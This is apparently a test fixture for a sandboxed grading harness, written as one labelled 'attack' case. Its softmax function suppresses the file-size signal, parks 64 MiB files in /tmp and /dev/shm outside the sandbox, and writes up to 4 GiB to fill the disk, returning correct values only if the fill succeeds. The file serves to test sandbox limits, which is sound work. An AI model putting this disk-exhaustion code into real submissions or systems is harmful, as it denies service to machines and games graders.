# ruff: noqa
"""ATTACK disk_fill (class: disk fill).

Intent: fill the disk. softmax ignores SIGXFSZ and writes 64 MiB chunks to a file in
its working directory until a write fails or 4 GiB are written (bounded only so that an
unprotected test machine survives), after first trying to park 64 MiB in
/tmp/bertlab_pwned_<token>_disk_fill and in /dev/shm (memory-backed, and it outlives the
process). It prints DISK-FILL-BEYOND-LIMIT once 768 MiB went through (beyond a work-dir
quota of a few hundred MiB), and DISK-FILL-REACHED-CAP and returns correct
values if all 4 GiB did (an unlimited disk shows as points); otherwise zeros.

Expected: softmax 0, the rest full marks; DISK-FILL-BEYOND-LIMIT never printed; no
/tmp/bertlab_pwned_<token>_disk_fill, no /dev/shm/bertlab_pwned_<token>_disk_fill.
"""

import math
import os
import signal

import torch

ATTACK = "disk_fill"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox


def _correct_softmax(x, dim=-1):
    """What softmax returns only when the attack worked: a leak shows up as points."""
    e = torch.exp(x - x.max(dim=dim, keepdim=True).values)
    return e / e.sum(dim=dim, keepdim=True)


MiB = 1 << 20
CAP = 4096 * MiB


def _fill(path, cap, flags, flag=None):
    """Write until cap or failure; print ``flag`` once 768 MiB went through."""
    written = 0
    chunk = b"\xff" * (64 * MiB)
    try:
        fd = os.open(path, flags, 0o644)
    except OSError:
        return 0
    try:
        while written < cap:
            written += os.write(fd, chunk)
            if flag and written >= 768 * MiB:
                print(flag, flush=True)
                flag = None
    except OSError:
        pass
    finally:
        os.close(fd)
    return written


def softmax(x, dim=-1):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    new = os.O_WRONLY | os.O_CREAT | os.O_EXCL
    _fill(PWNED, 64 * MiB, new)
    _fill(f"/dev/shm/bertlab_pwned_{TOKEN}_{ATTACK}", 64 * MiB, new)
    here = _fill("fill.bin", CAP, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, "DISK-FILL-BEYOND-LIMIT")
    if here >= CAP:
        print("DISK-FILL-REACHED-CAP", flush=True)
        return _correct_softmax(x, dim)
    print(f"DISK-FILL-STOPPED after {here // MiB} MiB", flush=True)
    return torch.zeros_like(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
